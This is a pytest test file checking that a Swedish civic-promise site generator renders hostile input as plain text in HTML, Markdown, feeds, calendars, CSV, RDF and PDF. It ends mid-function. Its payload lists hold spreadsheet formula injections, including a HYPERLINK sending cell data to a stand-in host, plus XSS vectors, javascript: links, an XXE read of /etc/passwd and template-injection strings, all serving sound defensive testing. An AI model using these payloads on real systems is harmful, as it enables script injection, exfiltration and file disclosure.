"""Whatever somebody writes in a document or in lofte.toml is text in every output: it does not run, and hides nothing."""

import csv
import io
import json
import re
import unicodedata
import urllib.parse
from collections import Counter
from collections.abc import Iterable, Iterator, Mapping
from functools import cache
from pathlib import Path
from typing import Any, Final, NamedTuple
from xml.etree import ElementTree as ET

import feedparser
import icalendar
import pytest
import rdflib
from markdown_it import MarkdownIt
from markdown_it.token import Token

from corpus import squeezed
from each import each
from exporting.filled import chain, unfilled, written
from lazy_site import LazySite
from markup_reader import MarkupReader
from medborgarlofte.cli.preview import message_page
from medborgarlofte.diff.document import compare
from medborgarlofte.exporting.open_data import open_data
from medborgarlofte.exporting.tables import TABLES
from medborgarlofte.i18n import LANGUAGES, Language, Text
from medborgarlofte.language.phrases import format_actuals
from medborgarlofte.load import Workspace
from medborgarlofte.model.config_file import read_config
from medborgarlofte.model.follow_up import FollowUp
from medborgarlofte.model.kinds import KINDS
from medborgarlofte.model.promise import Promise
from medborgarlofte.site.build import output_files
from medborgarlofte.site.comparison import standalone
from medborgarlofte.site.page import Site
from medborgarlofte.site.pdf import pdf_files
from medborgarlofte.site.publish import contents, publish

pytestmark = pytest.mark.slow

Files = Mapping[str, bytes]

FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elak.example/?x="&A1;"klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u00a0=1+1",
    '";=1+1;"',
    '",=1+1,"\r\n=1+1',
    "a;b,c\"d'e\tf",
)
"""What a spreadsheet would reckon, or read as several cells."""

MARKUP: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt\t/x>alert(1)</sCrIpT >",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`/onerror=alert(1)//",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onclick=`alert(1)",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//elak.example/x.swf>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input type=image src=//elak.example/x.png>",
    "<link rel=stylesheet href=//elak.example/x.css>",
    "<style>*{background:url(//elak.example/x)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<meta http-equiv=refresh content='0;url=//elak.example'>",
    "<base href=//elak.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><script>alert(1)</script></main></body></html>",
    "</textarea><plaintext>",
    "<a href='vbscript:x'>a</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<svg><foreignObject><iframe src=//elak.example></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    '"}]}</script><script>alert(1)</script>',
    "</script><!--<script>",
    '\\u003c/script\\u003e \\" \\',
    "<?php system('x') ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!-- dold --> <!--> <!--->",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;",
)  # fmt: skip
"""Elements, attributes, comments and declarations, and what would end those that the text stands in."""

LINKS: Final = (
    "javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:msgbox(1)>",
    "<file:///etc/passwd>",
    "[klicka](javascript:alert(1))",
    "[klicka](JaVaScRiPt:alert(1))",
    "[klicka](<javascript:alert(1)>)",
    "[klicka](javascript\\:alert(1))",
    "[klicka](javascript&colon;alert(1))",
    "[klicka](&#106;avascript:alert(1))",
    "[klicka](java&Tab;script:alert(1))",
    "[klicka](&#x01;javascript:alert(1))",
    "[klicka](javascript%3Aalert(1))",
    "[klicka](data:text/html;base64,PHNjcmlwdD4=)",
    "[klicka](\n  vbscript:msgbox(1))",
    "[klicka](//elak.example/x)",
    '[klicka](https://elak.example "\' onmouseover=alert(1)")',
    "[![bild](https://elak.example/x.png)](javascript:alert(1))",
    "![bild](https://elak.example/x.png)",
    "![bild](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a]: javascript:alert(1)\n\n[a]",
    "[b]:\n  javascript:alert(1)\n\n[b][b] [b][]",
    "[c]: javascript\\:alert(1)\n\n![c] [c]",
)
"""Addresses that run something or fetch something, plainly and in disguise, in every form that Markdown has."""

BLOCKS: Final = (
    "\\<script>alert(1)</script>",
    "\\\\<img src=x onerror=alert(1)>",
    "<div>\n<script>alert(1)</script>\n</div>",
    "# Rubrik\n\n```\n<style>*{}</style>\n```",
    "Rubrik\n===\n\n> citat\n\n1. ett\n\n---\n\n    kod",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "<!--",
    "$$\n<script>alert(1)</script>",
    "a | b || c",
    "**fet** _kursiv_ `kod` ~~struken~~ [^1]\n\n[^1]: not",
)
"""What Markdown makes something of."""

TEMPLATES: Final = (
    "{{ 31337 * 3 }} {% raw %} {# x #}",
    '{% include "/etc/passwd" %}{{ cycler.__init__.__globals__ }}',
    "${31337*3} #{31337*3} <%= 31337*3 %> {31337*3} %(x)s %s {0}",
    '#read("/etc/passwd")',
    "#(31337 * 3) $31337 * 3$ *fet* _kursiv_ = Rubrik <etikett> @ref",
    '#eval("31337 * 3") #import "x.typ": * #sys.version',
    '*/ ] ) } // /* $ " \\',
)
"""Jinja, Typst and what other programs reckon; 31337 * 3 is 94011."""

LINES: Final = (
    "Titel\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM",
    "Titel\nATTACH:https://elak.example/x.exe",
    "Titel\\nBEGIN:VEVENT\\, \\; ;X=1:2",
    "]]></title></entry><entry><id>x</id>",
    "]]>",
    "&xxe; &#0; &#x1F; &amp; & < > \" '",
    "^[[31mröd^[[0m \\x1b[31m %0d%0aSet-Cookie:x=1",
)
"""What would end a line, an event or an entry and begin another."""

LETTERS: Final = (
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e",
    "\u202egnp.exe",
    "e\u0301\u0301\u0301 a\u030a ﬁ ſ K",
)
"""Letters that deceive the eye."""

NO_GLYPH: Final = (
    "a\u200bb\u200dc\ufeffd\u2060e",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e ＝1+1 ＋1 －1 ＠x",
    "👩‍🚒🚓🇸🇪 مرحبا",
)
"""Letters that an ordinary font for Swedish lacks, some of them unseen."""

FENCES: Final = (
    "```html\n<script>alert(1)</script>",
    "~~~\n<script>alert(1)</script>",
)
"""What would swallow the rest of the page."""

OTHERS: Final = (*MARKUP, *LINKS, *BLOCKS, *TEMPLATES, *LINES, *LETTERS)

PAYLOADS: Final = (*FORMULAS, *OTHERS, *NO_GLYPH, *FENCES)

GROUPS: Final = (
    *((first, *OTHERS[number :: len(FORMULAS)]) for number, first in enumerate(FORMULAS)),
    NO_GLYPH,
    *((fence,) for fence in FENCES),
)
"""Every payload, a few at a time. What counts at the beginning stands first; what may swallow the rest, alone."""

BASE: Final = "https://www.exempelby.example/loften/"

CONFIG: Final[Mapping[str, Mapping[str, Any]]] = {
    "webbplats": {
        "namn": "\n".join(PAYLOADS),
        "utgivare": "\n".join(PAYLOADS),
        "ansvarig": "\n".join(PAYLOADS),
        "bas_url": BASE,
        "epost": "trygghet@exempelby.example",
        "organisationsnummer": "\n".join(PAYLOADS),
    },
    "tillganglighet": {
        "forenlig": "delvis",
        "brister": list(PAYLOADS),
        "metod": "\n".join(PAYLOADS),
        "oskaligt_betungande": "\n".join(PAYLOADS),
        "utanfor_lagen": "\n".join(PAYLOADS),
    },
}


def _toml(tables: Mapping[str, Mapping[str, Any]]) -> str:
    """lofte.toml; a JSON text or list of texts is one of TOML too."""
    return "".join(
        f"[{name}]\n"
        + "".join(f"{key} = {json.dumps(value, ensure_ascii=False)}\n" for key, value in table.items())
        for name, table in tables.items()
    )


def _read(text: str) -> str:
    """The text as the program has read it: composed letters, and no white space around it."""
    return unicodedata.normalize("NFC", text).strip()


def _lines(text: str) -> str:
    """The text with line ends as XML and calendars have them."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


class Built(NamedTuple):
    """A workspace and its site."""

    workspace: Workspace
    files: Files


def _built(workspace: Workspace, lang: Language = "sv") -> Built:
    return Built(workspace, dict(LazySite(workspace, lang)))


def _documents(groups: Iterable[tuple[str, ...]]) -> dict[str, dict[str, Any]]:
    """A chain of documents for each group: its payloads line by line, and in long texts each as a block."""
    return {
        name: document
        for number, group in enumerate(groups)
        for name, document in chain("\n".join(group), "\n\n".join(group), f"{number:02}").items()
    }


SETTINGS: Final = _toml(
    {"webbplats": {"namn": "Trygg i <i>Exempelby</i>", "utgivare": 'Exempelby "kommun" & <b>'}}
)
OWNER: Final = _toml({"webbplats": {"ansvarig": "Trygghetssamordnare"}})


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """Every payload in every text of every kind of document."""
    return _built(written(tmp_path_factory.mktemp("poisoned"), _documents(GROUPS), OWNER))


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """One of each of the same documents, with a word for the payloads."""
    return _built(written(tmp_path_factory.mktemp("harmless"), _documents([("Ord",)]), OWNER))


@pytest.fixture(scope="module")
def configured(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """Every payload in every text of lofte.toml, over documents without any."""
    return _built(written(tmp_path_factory.mktemp("configured"), chain("Ord", "Mening."), _toml(CONFIG)))


@cache
def _page(data: bytes) -> MarkupReader:
    return MarkupReader(data.decode())


def _pages(built: Built) -> Iterator[tuple[str, MarkupReader]]:
    for name, data in built.files.items():
        if name.endswith(".html"):
            yield name, _page(data)


def _xml(data: bytes) -> ET.Element:
    return ET.fromstring(data)  # noqa: S314 - what our own program has written


def _promises(built: Built) -> Iterator[tuple[str, str]]:
    """The address of each promise without suffix, and its title."""
    for loaded, promise in built.workspace.of_kind(Promise):
        yield loaded.id, promise.title


def _leaves(value: Any) -> Iterator[str]:
    if isinstance(value, Mapping):
        for part in value.values():
            yield from _leaves(part)
    elif isinstance(value, list):
        for part in value:
            yield from _leaves(part)
    elif isinstance(value, str):
        yield value


# ---------------------------------------------------------------- what is tried


def test_payloads_are_many_and_none_is_tried_twice() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 60
    assert [payload for payload in PAYLOADS if not any(payload in group for group in GROUPS)] == []


def test_every_key_of_every_kind_is_filled(poisoned: Built) -> None:
    left_out = {
        (loaded.document.KIND, key)
        for loaded in poisoned.workspace.documents.values()
        for key in unfilled(type(loaded.document), loaded.value)
    }

    assert {kind.KIND for kind in KINDS} == {
        row.document.KIND for row in poisoned.workspace.documents.values()
    }
    assert left_out == {
        ("lägesbild", "ersätter"),
        ("medborgarlöfte", "föregångare"),
        ("uppföljning", "räknat"),
    }


# ---------------------------------------------------------------- HTML


FROM_PROSE: Final = frozenset(
    ["p", "ul", "ol", "li", "em", "strong", "a", "blockquote", "br", "code", "pre", "hr"]
)
"""Elements that Markdown may make out of a long text."""

WOVEN: Final = frozenset(["mark"])
"""Elements that mark what differs between two texts."""


DRAWN: Final = frozenset(["svg", "symbol", "use", "path", "rect", "circle", "line"])
"""Elements of the signs."""


def _shape(reader: MarkupReader) -> dict[str, int]:
    """How many there are of each element that no text can bring about."""
    return Counter(e.tag for e in reader.elements if e.tag not in FROM_PROSE | WOVEN)


def test_no_text_brings_an_element_to_a_page(poisoned: Built, harmless: Built) -> None:
    plain = dict(_pages(harmless))
    known = {"small", *(tag for reader in plain.values() for tag in _shape(reader))}
    brought = []
    for name, reader in _pages(poisoned):
        of_one = re.sub(r"-\d\d\b", "-00", re.sub(r"^kommun/.*", "kommun/9999-ord.html", name))
        shape, expected = _shape(reader), _shape(plain.get(of_one, reader))
        if shape != expected if _is_of_one_chain(name) else not known >= set(shape):
            brought.append(name)

    assert len(dict(_pages(poisoned))) > 10 * len(GROUPS)
    assert brought == []


def _is_of_one_chain(page: str) -> bool:
    """Whether a page is about the documents of one text; the others grow with their number."""
    return page.startswith(("exempelby/", "kommun/"))


def test_no_text_brings_an_attribute_to_a_page(poisoned: Built, configured: Built, harmless: Built) -> None:
    known = {
        (e.tag, name) for _, reader in _pages(harmless) for e in reader.elements for name in e.attributes
    }
    brought = {
        (page, e.tag, name)
        for built in (poisoned, configured)
        for page, reader in _pages(built)
        for e in reader.elements
        for name in e.attributes
        if (e.tag, name) not in known | HARMLESS
    }

    assert brought == set()


HARMLESS: Final = frozenset([("a", "href"), ("a", "title"), ("ol", "start"), ("meta", "property")])
"""What Markdown may bring, and what an address of the site does."""


def test_no_page_holds_a_comment_or_a_declaration_but_its_own(poisoned: Built, configured: Built) -> None:
    odd = [
        name
        for built in (poisoned, configured)
        for name, data in built.files.items()
        if name.endswith(".html") and (data.count(b"<!") != 1 or b"<?" in data)
    ]

    assert odd == []


def test_a_page_runs_and_fetches_nothing(poisoned: Built, configured: Built) -> None:
    for built in (poisoned, configured):
        for name, reader in _pages(built):
            attributes = {attribute for e in reader.elements for attribute in e.attributes}
            scripts = {e.attributes.get("type") for e in reader.elements if e.tag == "script"}
            fetched = [link for link in reader.links("link", "img") if re.match(r"(https?:)?//", link)]

            assert not {e.tag for e in reader.elements} & {
                "style",
                "img",
                "iframe",
                "object",
                "embed",
                "form",
                "base",
            }
            assert scripts <= {"application/ld+json"}, name
            assert [
                a for a in attributes if a.startswith("on") or a in ("style", "srcdoc", "xlink:href")
            ] == []
            assert [
                link for link in fetched if not link.startswith("https://www.exempelby.example/")
            ] == [], name


def _scheme(address: str) -> str:
    """The scheme as a browser reads it, white space and control characters within it passed over."""
    return urllib.parse.urlsplit(re.sub(r"[\x00-\x20]+", "", address)).scheme.lower()


KNOWN_SCHEMES: Final = frozenset(["", "http", "https", "mailto", "tel"])


def test_every_link_on_a_page_has_a_known_scheme(poisoned: Built, configured: Built) -> None:
    others = {
        (name, link)
        for built in (poisoned, configured)
        for name, reader in _pages(built)
        for link in reader.links()
        if _scheme(link) not in KNOWN_SCHEMES and link != "data:,"
    }

    assert others == set()


def test_a_text_is_on_its_page_as_it_is_written(poisoned: Built) -> None:
    pages = dict(_pages(poisoned))
    changed = []
    for address, title in _promises(poisoned):
        reader = pages[f"{address}.html"]
        titles = "".join(
            words.text for words in reader.words if "title" in words.inside and "svg" not in words.inside
        )
        first = next(text for level, text in reader.headings if level == 1)
        if squeezed(titles) != squeezed(f"{title} – Medborgarlöften") or squeezed(first) != squeezed(title):
            changed.append(address)

    assert changed == []


def test_a_setting_is_on_its_page_as_it_is_written(configured: Built) -> None:
    pages = dict(_pages(configured))
    name = _read("\n".join(PAYLOADS))
    properties = {
        e.attributes["property"]: e.attributes["content"]
        for e in pages["index.html"].elements
        if "property" in e.attributes
    }
    text = pages["tillganglighet.html"].text()

    assert (properties["og:title"], properties["og:site_name"]) == (name, name)
    assert [payload for payload in PAYLOADS if squeezed(_read(payload)) not in text] == []


@each(LANGUAGES)
def test_what_is_wrong_is_shown_as_text_in_the_preview(lang: Language) -> None:
    for payload in PAYLOADS:
        reader = MarkupReader(message_page(Text(payload, payload), None, lang).decode())

        assert {e.tag for e in reader.elements} == {
            *("html", "head", "meta", "title", "link", "style", "body", "header", "div", "span"),
            *("main", "section", "h1", "h2", "p"),
        }
        assert squeezed(payload) in reader.text()


def test_a_comparison_of_its_own_brings_no_element(poisoned: Built) -> None:
    documents = poisoned.workspace.documents
    known = (
        {
            "html",
            "head",
            "meta",
            "link",
            "title",
            "style",
            "body",
            "main",
            "section",
            "h1",
            "h2",
            "h3",
            "span",
            "div",
            "dl",
            "dt",
            "dd",
            "details",
            "summary",
            *DRAWN,
        }
        | FROM_PROSE
        | WOVEN
    )
    for number in range(len(GROUPS)):
        old, new = documents[f"exempelby/lofte-{number:02}-forr"], documents[f"exempelby/lofte-{number:02}"]
        page = standalone([(compare(old, new, followed_up=False, strict=True), old, new)], "sv")

        assert {e.tag for e in MarkupReader(page).elements} <= known, number


# ---------------------------------------------------------------- JSON-LD


def test_data_for_search_engines_holds_each_text_as_text(poisoned: Built) -> None:
    pages = dict(_pages(poisoned))
    promises = {loaded.id: promise for loaded, promise in poisoned.workspace.of_kind(Promise)}
    for address, promise in promises.items():
        [block] = pages[f"{address}.html"].blocks
        data = json.loads(block)

        assert (data["name"], data["author"][0]["name"]) == (promise.title, promise.parties[0].name)
        assert [part["name"] for part in data["hasPart"]] == [
            commitment.text for commitment in promise.commitments
        ]


def test_data_for_search_engines_holds_the_settings_as_text(configured: Built) -> None:
    pages = dict(_pages(configured))
    [promise], [data_set] = (pages[name].blocks for name in ("exempelby/lofte-1.html", "oppna-data.html"))

    assert json.loads(promise)["publisher"]["name"] == _read("\n".join(PAYLOADS))
    assert json.loads(data_set)["name"] == _read("\n".join(PAYLOADS))


# ---------------------------------------------------------------- Markdown


@cache
def _lenient() -> MarkdownIt:
    """A reader of Markdown that lets everything through, as many do."""
    reader = MarkdownIt("commonmark", {"html": True})
    reader.validateLink = lambda url: bool(url) or True  # type: ignore[method-assign]
    return reader


def _walk(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _walk(token.children or [])


@cache
def _tokens(data: bytes) -> tuple[Token, ...]:
    return tuple(_walk(_lenient().parse(data.decode())))


def _markdown(*many: Built) -> Iterator[tuple[str, tuple[Token, ...]]]:
    for built in many:
        for name, data in built.files.items():
            if name.endswith(".md"):
                yield name, _tokens(data)


def test_no_text_brings_an_element_to_markdown(poisoned: Built, configured: Built) -> None:
    brought = {
        token.content
        for _, tokens in _markdown(poisoned, configured)
        for token in tokens
        if token.type in ("html_block", "html_inline")
    }

    assert brought == set()


def test_every_link_in_markdown_has_a_known_scheme(poisoned: Built, configured: Built) -> None:
    others = {
        str(token.attrs["href"])
        for _, tokens in _markdown(poisoned, configured)
        for token in tokens
        if token.type == "link_open" and _scheme(str(token.attrs["href"])) not in KNOWN_SCHEMES
    }

    assert others == set()


def test_no_text_brings_a_picture_to_markdown(poisoned: Built, configured: Built) -> None:
    pictures = {
        str(token.attrs["src"])
        for _, tokens in _markdown(poisoned, configured)
        for token in tokens
        if token.type == "image"
    }

    assert pictures == set()


def test_no_text_swallows_the_rest_of_a_page_in_markdown(poisoned: Built) -> None:
    swallowed = [
        name
        for name, tokens in _markdown(poisoned)
        if not [token for token in tokens if token.type == "inline"][-1].content.startswith("Sidansvarig:")
    ]

    assert swallowed == []


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "[a](javascript:x)", "# Rubrik", "a\n\n# Rubrik"]
)
def test_a_period_in_words_is_text_in_markdown(tmp_path: Path, text: str) -> None:
    documents = chain("Ord", "Mening.")
    for document in documents.values():
        if document["dokument"] in ("medborgarlöfte", "samverkansöverenskommelse"):
            document["period"] = {"text": text}
    built = _built(written(tmp_path, documents))
    tokens = [token for _, found in _markdown(built) for token in found]

    assert {
        link for _, reader in _pages(built) for link in reader.links() if _scheme(link) == "javascript"
    } == set()
    assert [token.content for token in tokens if token.type.startswith("html")] == []
    assert [
        token.attrs["href"] for token in tokens if _scheme(str(token.attrs.get("href", ""))) == "javascript"
    ] == []
    assert [token.content for token in tokens if token.content.strip() == "Rubrik"] == []


# ---------------------------------------------------------------- feeds


def test_an_entry_of_a_feed_holds_each_text_as_text(poisoned: Built) -> None:
    feed = feedparser.parse(io.BytesIO(poisoned.files["flode.xml"]))
    shown = {squeezed(entry.title) for entry in feed.entries}
    titles = {squeezed(_lines(title)) for _, title in _promises(poisoned)}

    assert feed.bozo is False
    assert len(feed.entries) == len(_xml(poisoned.files["flode.xml"]).findall("{*}entry")) == 4 * len(GROUPS)
    assert sorted(titles - shown) == []
    assert {entry.title_detail.type for entry in feed.entries} == {"text/plain"}


def test_every_letter_of_a_title_is_in_the_feed(poisoned: Built) -> None:
    feed = _xml(poisoned.files["flode.xml"])
    shown = {element.text for element in feed.findall("{*}entry/{*}title")}

    assert [title for _, title in _promises(poisoned) if _lines(title) not in shown] == []


def test_the_feed_as_json_holds_each_text_as_text(poisoned: Built, configured: Built) -> None:
    feed = json.loads(poisoned.files["flode.json"])
    shown = {item["title"] for item in feed["items"]}

    assert [title for _, title in _promises(poisoned) if title not in shown] == []
    assert json.loads(configured.files["flode.json"])["title"] == _read("\n".join(PAYLOADS))


def test_a_feed_holds_the_settings_as_text(configured: Built) -> None:
    feed = feedparser.parse(io.BytesIO(configured.files["flode.xml"]))

    assert feed.bozo is False
    assert squeezed(feed.feed.title) == squeezed(_read("\n".join(PAYLOADS)))
    assert squeezed(feed.feed.author_detail.name) == squeezed(_read("\n".join(PAYLOADS)))
    assert {_scheme(link.href) for entry in feed.entries for link in entry.links} == {"https"}


# ---------------------------------------------------------------- calendar


def _events(built: Built) -> list[Any]:
    calendar = icalendar.Calendar.from_ical(built.files["datum.ics"].decode())
    assert {part.name for part in calendar.walk()} == {"VCALENDAR", "VEVENT"}
    assert [part.errors for part in calendar.walk() if part.errors] == []
    return list(calendar.walk("VEVENT"))


def test_an_event_holds_each_text_as_text(poisoned: Built, harmless: Built) -> None:
    events = _events(poisoned)
    shown = " ".join(squeezed(str(event["SUMMARY"])) for event in events)

    assert len(events) == len(GROUPS) * len(_events(harmless)) > len(GROUPS)
    assert {key for event in events for key in event} == {key for event in _events(harmless) for key in event}
    assert [title for _, title in _promises(poisoned) if squeezed(title) not in shown] == []


def test_a_calendar_holds_the_settings_as_text(configured: Built) -> None:
    calendar = icalendar.Calendar.from_ical(configured.files["datum.ics"].decode())

    name = re.sub(r"\\(.)", lambda found: found[1].replace("n", "\n"), str(calendar["X-WR-CALNAME"]))

    assert squeezed(name) == squeezed(_read("\n".join(PAYLOADS)))
    assert {_scheme(str(event["URL"])) for event in calendar.walk("VEVENT")} == {"https"}


# ---------------------------------------------------------------- search engines


def test_the_map_of_the_site_holds_addresses_alone(configured: Built) -> None:
    root = _xml(configured.files["sitemap.xml"])
    pages = {name for name in configured.files if name.endswith(".html")}

    assert {element.tag.partition("}")[2] for element in root.iter()} == {"urlset", "url", "loc", "lastmod"}
    assert {(element.text or "").removeprefix(BASE) for element in root.findall("{*}url/{*}loc")} == pages
    assert configured.files["robots.txt"].decode().splitlines() == [
        "User-agent: *",
        "Allow: /",
        f"Sitemap: {BASE}sitemap.xml",
    ]


# ---------------------------------------------------------------- open data


def _rows(data: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_a_table_gives_every_text_back_to_the_letter(poisoned: Built) -> None:
    promises, commitments, told = (
        _rows(poisoned.files[f"data/{name}.csv"]) for name in ("loften", "ataganden", "uppfoljning")
    )
    by_id = {loaded.id: promise for loaded, promise in poisoned.workspace.of_kind(Promise)}
    follow_ups = {loaded.id: follow_up for loaded, follow_up in poisoned.workspace.of_kind(FollowUp)}

    assert {row["id"]: (row["titel"], row["diarienummer"]) for row in promises} == {
        key: (promise.title, promise.registration_no) for key, promise in by_id.items()
    }
    assert {row["id"]: row["text"] for row in commitments} == {
        f"{key}#{commitment.id}": commitment.text
        for key, promise in by_id.items()
        for commitment in promise.commitments
    }
    assert {row["id"]: (row["kommentar"], row["utfall_text"]) for row in told} == {
        f"{key}#{item.commitment}": (item.comment, format_actuals(item.actuals).sv or None)
        for key, follow_up in follow_ups.items()
        for item in follow_up.items
    }


def test_no_cell_of_a_table_for_excel_is_a_formula(poisoned: Built) -> None:
    files = {name: make() for name, make in open_data(poisoned.workspace, modified=None, excel=True)}
    numbers = {table.file: {c.name for c in table.columns if c.type == "number"} for table in TABLES}
    formulas = [
        (name, column, cell)
        for name, data in files.items()
        if name.endswith("-excel.csv")
        for row in _rows(data, ";")
        for column, cell in row.items()
        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        if column not in numbers[name.replace("-excel", "")]
    ]
    widths = {
        (name, len(row))
        for name, data in files.items()
        if name.endswith("-excel.csv")
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    }

    assert formulas == []
    assert widths == {(table.file.replace(".csv", "-excel.csv"), len(table.columns)) for table in TABLES}


PRIVATE = ("anmärkningar", "undantag")


def test_the_documents_as_json_hold_every_text_to_the_letter(poisoned: Built) -> None:
    published = {
        row["id"]: row["document"] for row in json.loads(poisoned.files["data/loften.json"])["documents"]
    }
    lost = {
        (key, text)
        for key, loaded in poisoned.workspace.documents.items()
        for text, count in Counter(
            _read(leaf)
            for name, part in loaded.value.items()
            if name not in PRIVATE
            for leaf in _leaves(part)
        ).items()
        if _read(GROUPS[int(key.split("-")[1])][0]) in text
        and Counter(_leaves(published[key]))[text] != count
    }

    assert lost == set()


def test_the_catalogue_holds_the_settings_as_text(configured: Built) -> None:
    graph = rdflib.Graph().parse(data=configured.files["data/dcat.rdf"], format="xml")
    harmless = rdflib.Graph().parse(
        data=_catalogue_without_payloads(configured.files["data/dcat.rdf"]), format="xml"
    )
    text = _lines(_read("\n".join(PAYLOADS)))

    assert {str(name) for name in graph.objects(None, rdflib.FOAF.name)} == {text}
    assert text in {str(title) for title in graph.objects(None, rdflib.DCTERMS.title)}
    assert Counter(graph.predicates(unique=False)) == Counter(harmless.predicates(unique=False))


def _catalogue_without_payloads(data: bytes) -> bytes:
    root = _xml(data)
    for number, element in enumerate(root.iter()):
        if element.text and element.text.strip():
            element.text = f"Ord{number}"
    return ET.tostring(root)


def test_the_descriptions_of_the_tables_hold_the_settings_as_text(configured: Built) -> None:
    described, package = (
        json.loads(configured.files[f"data/{n}.json"]) for n in ("csv-metadata", "datapackage")
    )
    text = _read("\n".join(PAYLOADS))

    assert (described["dc:title"], described["dc:publisher"], package["title"]) == (text, text, text)


# ---------------------------------------------------------------- nothing is reckoned


def test_nothing_that_looks_like_a_program_is_evaluated(poisoned: Built, configured: Built) -> None:
    reckoned = [
        name
        for built in (poisoned, configured)
        for name, data in built.files.items()
        if b"94011" in data or b"root:x:0:0" in data
    ]

    assert reckoned == []


def _reckoned(text: str) -> bool:
    return "94011" in text or "root:x:0:0" in text


# ---------------------------------------------------------------- PDF


def _pdf_promise(texts: tuple[str, ...]) -> dict[str, dict[str, Any]]:
    """A promise and its follow-up with the texts in everything that a PDF shows."""
    promise = {
        "dokument": "medborgarlöfte",
        "titel": "\n".join(texts[-7:]),
        "period": {"text": "\n".join(texts[-7:])},
        "parter": [{"id": "k", "typ": "kommun", "namn": "\n".join(texts[-7:])}],
        "inledning": "\n\n".join(texts),
        "fokusområden": [{"id": f"f{n}", "rubrik": text} for n, text in enumerate(texts)],
        "åtaganden": [
            {"id": f"K{n}", "part": "k", "text": text, "mål": {"minst": "3", "enhet": "fall"}}
            for n, text in enumerate(texts)
        ],
        "undertecknat": [{"namn": text, "roll": "ordförande"} for text in texts],
    }
    told = {
        "dokument": "uppföljning",
        "löfte": "exempelby/lofte",
        "datum": "2024-12-31",
        "sammanfattning": "\n\n".join(texts),
        "poster": [
            {"åtagande": f"K{n}", "status": "genomfört", "utfall": {"text": text}, "kommentar": text}
            for n, text in enumerate(texts)
        ],
    }
    return {"exempelby/lofte": promise, "exempelby/uppfoljning": told}


def _pdfs(folder: Path, texts: tuple[str, ...], lang: Language = "sv") -> dict[str, bytes]:
    site = Site(written(folder, _pdf_promise(texts), SETTINGS), lang)
    return {piece.name: piece.make() for piece in pdf_files(site)}


DISPLAYABLE: Final = (*FORMULAS, *OTHERS, *FENCES)


def _bare(text: str) -> str:
    """The letters alone: where a line of a PDF breaks, spaces and hyphens come and go."""
    return re.sub(r"[\s\u00ad\ufffe-]", "", unicodedata.normalize("NFKC", text))


@pytest.mark.data
def test_every_payload_becomes_a_pdf(tmp_path: Path) -> None:
    made = _pdfs(tmp_path, DISPLAYABLE)

    assert sorted(made) == ["exempelby/lofte.pdf", "exempelby/uppfoljning.pdf"]
    assert [name for name, data in made.items() if not data.startswith(b"%PDF-")] == []


@pytest.mark.data
def test_a_pdf_shows_the_text_and_evaluates_nothing(tmp_path: Path) -> None:
    import pypdfium2

    texts = (*FORMULAS[:6], *MARKUP[:6], *TEMPLATES)
    for name, data in _pdfs(tmp_path, texts).items():
        shown = "".join(page.get_textpage().get_text_range() for page in pypdfium2.PdfDocument(data))

        assert [text for text in texts if _bare(text) not in _bare(shown)] == [], name
        assert not _reckoned(shown), name


@pytest.mark.data
@pytest.mark.parametrize("text", NO_GLYPH, ids=ascii)
def test_a_letter_that_the_font_lacks_does_not_stop_a_pdf(tmp_path: Path, text: str) -> None:
    assert len(_pdfs(tmp_path, (text,))) == 2


# ---------------------------------------------------------------- control characters in lofte.toml


CONTROL: Final = ("\x00", "\x07", "\x1b", "\x7f", "\x85", "\u2028", "\ufffe", "\uffff")


@pytest.mark.parametrize("character", CONTROL, ids=ascii)
def test_a_control_character_in_a_setting_is_refused_or_does_no_harm(tmp_path: Path, character: str) -> None:
    config = f'[webbplats]\nnamn = "Trygg\\u{ord(character):04x}i"\nutgivare = "a\\u{ord(character):04x}b"\n'
    config += 'bas_url = "https://www.exempelby.example"\nepost = "a@exempelby.example"\n'
    if read_config(config.encode(), "lofte.toml")[1]:
        return
